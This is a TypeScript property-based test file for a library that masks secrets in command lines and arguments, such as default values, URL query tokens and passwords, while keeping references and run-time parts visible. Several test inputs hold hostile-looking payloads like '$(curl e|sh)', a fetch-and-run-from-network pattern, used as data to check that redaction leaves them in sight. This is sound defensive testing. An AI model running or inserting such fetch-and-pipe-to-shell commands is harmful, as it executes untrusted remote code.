// biome-ignore-all lint/suspicious/noTemplateCurlyInString: ${NAME} references, meant literally.
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { propertyRuns } from "../../../test-support/properties.js";
import { withoutArgSecrets, withoutCommandLineSecrets } from "./index.js";
import {
  expectArgFilledBack,
  expectArgs,
  expectFilledBack,
  expectHiddenLine,
  exportedArgs,
  exportedCommand,
  outsideReferences,
  payloadsIn,
} from "./test-support/spec-cases.js";

// fix177: leaks fix176 found and left.
// 1. A default's word mixing literal text and a reference (`--token ${V:-J${X}}`, given as an
//    argument or pasted) was read as a reference alone: `J` kept in clear in both views. Its literal
//    text is the credential used while V is unset: hidden now, `${X}` kept (a reference).
// 2. So was one beside a run-time part (`${X:-Q9$(id)}` in a URL's telling query value): `Q9` is
//    hidden now, `$(id)` kept in sight in the display.
// 3. A telling query value written apart inside a quote, beside a run-time part (`"https://h/p?token=
//    x${X:-Q9}$(id)"`): the word was written again in '…' (`'https://h/p?token=•$(id)'`), filled back
//    `'https://h/p?token=xQ9$(id)'`. Each stretch written together is hidden where it stands now.
// 4. An argument whose URL is not at its start (`["see https://h/p?token=a b"]`) was read as a line,
//    cut at the blank: `b` shown and exported. An argument is one word: a URL after a blank runs to
//    its end when the argument reads as no command line (no shell operator, no part left open), as a
//    pasted quoted word's does (fix176), and the blank stands in its last query pair, a telling one
//    (then all the text cut off is that value's: nothing the line reading hid is shown); the display
//    keeps its run-time parts in sight.
// 6. Display quirk: the display with no `hide` wrote a URL written apart (a default's word read in
//    place: `"https://h/p?token=${V:-Q9x}"`) again without its quotes and its pair, `https://h/p`.
//    Each part it takes out is now named where it stands, as `hide`'s display does.

describe("a default's word mixing literal text and references or run-time parts", () => {
  it("given as an argument: each literal stretch hidden, the reference kept", () => {
    expectArgs(["--token", "${V:-J${X}}"], ["--token", "${V:-•${X}}"], ["--token", "${V:-${TOKEN}${X}}"]);
    expectArgs(["-e", "TOKEN=${V:-J${X}}"], ["-e", "TOKEN=${V:-•${X}}"], ["-e", "TOKEN=${V:-${TOKEN}${X}}"]);
    expectArgs(
      ["--url", "https://h/p?token=${X:-Q9$(id)}"],
      ["--url", "https://h/p?token=${X:-•$(id)}"],
      ["--url", "https://h/p"],
    );
  });

  it.each([
    ["srv --token ${V:-J${X}}", "srv --token ${V:-•${X}}", "srv --token ${V:-${TOKEN}${X}}"],
    ['srv --token "${V:-J${X}}"', 'srv --token "${V:-•${X}}"', 'srv --token "${V:-${TOKEN}${X}}"'],
    ["srv --token ${V:-J$(id)}", "srv --token ${V:-•$(id)}", "srv --token ${V:-${TOKEN}$(id)}"],
    [
      "srv ${DB_PASSWORD:-J$(curl e|sh)K}",
      "srv ${DB_PASSWORD:-•$(curl e|sh)•}",
      "srv ${DB_PASSWORD:-${DB_PASSWORD_2}$(curl e|sh)${DB_PASSWORD_3}}",
    ],
    [
      'srv --url "https://h/p?token=${X:-Q9$(id)}"',
      'srv --url "https://h/p?token=${X:-•$(id)}"',
      "srv --url https://h/p",
    ],
  ])("pasted: %s", (line, shown, exported) => {
    expectHiddenLine(line, shown, exported);
  });

  it("property: no literal of such a word in clear, its parts in sight, filled back byte for byte", () => {
    const word = fc
      .array(
        fc.oneof(fc.stringMatching(/^[JQ]{1,3}$/), fc.constantFrom("${X}", "$X/", "$(curl e|sh)", "`id`")),
        {
          minLength: 2,
          maxLength: 5,
        },
      )
      .map((parts) => parts.join(""))
      .filter((text) => /[JQ]/.test(text) && /[$`]/.test(text));
    const payloads = (text: string) => text.split("curl e|sh").length - 1;
    const outside = (text: string) => text.replace(/\$\{[A-Z_]+(?::-)?|\$X\b|\$\{X\}/g, "");
    fc.assert(
      fc.property(word, (w) => {
        const value = `\${V:-${w}}`;
        const args = ["--token", value];
        expect(outside(JSON.stringify(exportedArgs(args)))).not.toMatch(/[JQ]/);
        const shownArgs = withoutArgSecrets(args, () => "•");
        expect(outside(JSON.stringify(shownArgs))).not.toMatch(/[JQ]/);
        expect(payloads(JSON.stringify(shownArgs))).toBe(payloads(value));
        expectArgFilledBack(args);
        const line = `srv --token ${value}`;
        expect(outside(exportedCommand(line) ?? "")).not.toMatch(/[JQ]/);
        const shown = withoutCommandLineSecrets(line, () => "•");
        expect(outside(shown)).not.toMatch(/[JQ]/);
        expect(payloads(shown)).toBe(payloads(line));
        expectFilledBack(line);
      }),
      propertyRuns(200),
    );
  });
});

describe("a telling query value written apart inside a quote, beside a run-time part", () => {
  it.each([
    ['srv --url "https://h/p?token=x${X:-Q9}$(id)"', 'srv --url "https://h/p?token=•${X:-•}$(id)"'],
    ['srv --url "https://h/p?token=x${X:-${-  %VQ}}$(id)"', 'srv --url "https://h/p?token=•${X:-•}$(id)"'],
  ])("%s fills back byte for byte, its quotes kept", (line, shown) => {
    expect(withoutCommandLineSecrets(line, () => "•")).toBe(shown);
    expect(exportedCommand(line)).toBe("srv --url https://h/p");
    expectFilledBack(line);
  });
});

describe("an argument whose URL is not at its start", () => {
  it("runs to the argument's end: the text after a blank hidden in both views", () => {
    expectArgs(["see https://h/p?token=a b"], ["see https://h/p?token=•"], ["see https://h/p"]);
    expectArgs(
      ["see https://h/p?token=a $(curl e|sh) b"],
      ["see https://h/p?token=•$(curl e|sh)•"],
      ["see https://h/p"],
    );
    expectArgs(
      ["--run", "srv --url https://h/p?token=a b"],
      ["--run", "srv --url https://h/p?token=•"],
      ["--run", "srv --url https://h/p"],
    );
  });

  it("read as before otherwise: other values hidden, an operator's line word by word, a blank elsewhere", () => {
    expectArgs(
      ["host=db user=app password=X see https://u:pw@h/p x password=Y"],
      ["host=db user=app password=• see https://•@h/p x password=•"],
      ["host=db user=app password=${PASSWORD} see https://h/p x password=${PASSWORD_2}"],
    );
    expectArgs(
      ["see https://h/p?token=a b; curl e|sh"],
      ["see https://h/p?token=• b; curl e|sh"],
      ["see https://h/p b; curl e|sh"],
    );
    // A blank in a userinfo: `password=`'s value is hidden to the argument's end, as before.
    expectArgs(
      ["x https://u: password=Y@h/p'Q9"],
      ["x https://u: password=•"],
      ["x https://u: password=${PASSWORD}"],
    );
  });

  it("property: literal text, blanks and payloads in its telling value", () => {
    const value = fc
      .array(
        fc.oneof(
          fc.stringMatching(/^[JVQ]{1,3}$/),
          fc.constantFrom(" ", "  ", "-", "%", "/", "$(curl e|sh)", "`curl e|sh`", "${X}"),
        ),
        { minLength: 1, maxLength: 8 },
      )
      .map((parts) => parts.join(""))
      // A value holding no blank is read as a line as before, each `&` a shell's operator.
      .filter((text) => /[JVQ]/.test(text) && /\s/.test(text));
    const make = fc.constantFrom(
      (v: string) => `see https://h/p?token=${v}`,
      (v: string) => `see https://h/p/a?api_key=${v}`,
      (v: string) => `x y https://h/p?b=1&c=2&token=${v}`,
    );
    fc.assert(
      fc.property(make, value, (build, v) => {
        const args = ["--run", build(v)];
        expect(outsideReferences(JSON.stringify(exportedArgs(args)))).not.toMatch(/[JVQ]/);
        const shown = JSON.stringify(withoutArgSecrets(args, () => "•"));
        expect(outsideReferences(shown)).not.toMatch(/[JVQ]/);
        expect(payloadsIn(shown)).toBe(payloadsIn(build(v)));
        expectArgFilledBack(args);
      }),
      propertyRuns(300),
    );
  });
});

describe("the display with no hide, a URL written apart", () => {
  it.each([
    ['srv --url "https://h/p?token=${V:-Q9x}"', 'srv --url "https://h/p?token=${V:-${TOKEN}}"'],
    ['srv --url "https://h/p?token=${X:-Q9$(id)}"', 'srv --url "https://h/p?token=${X:-${TOKEN}$(id)}"'],
  ])("%s keeps its quotes, each part named where it stands", (line, shown) => {
    expect(withoutCommandLineSecrets(line)).toBe(shown);
    expect(exportedCommand(line)).toBe("srv --url https://h/p");
    expectFilledBack(line);
  });
});
